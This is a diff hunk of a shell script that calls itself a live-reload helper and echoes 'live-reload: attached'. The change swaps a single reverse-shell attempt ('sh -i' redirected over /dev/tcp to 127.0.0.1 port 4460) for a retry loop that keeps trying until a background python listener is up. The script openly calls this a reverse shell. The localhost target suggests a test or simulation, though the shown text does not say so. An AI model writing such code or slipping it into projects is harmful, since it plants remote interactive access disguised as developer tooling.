@@ -13,8 +13,11 @@ try:
 except OSError:
     pass
 " &
-sleep 1
-# The reverse shell: an interactive shell whose input and output are the connection.
-bash -c 'sh -i > /dev/tcp/127.0.0.1/4460 0>&1 2>&1' || true
+# The reverse shell: an interactive shell whose input and output are the connection, tried until
+# the listener is up (on a slow machine python takes more than a second to start).
+for _ in 1 2 3 4 5 6 7 8 9 10; do
+  sleep 1
+  bash -c 'sh -i > /dev/tcp/127.0.0.1/4460 0>&1 2>&1' 2>/dev/null && break
+done
 wait
 echo "live-reload: attached"
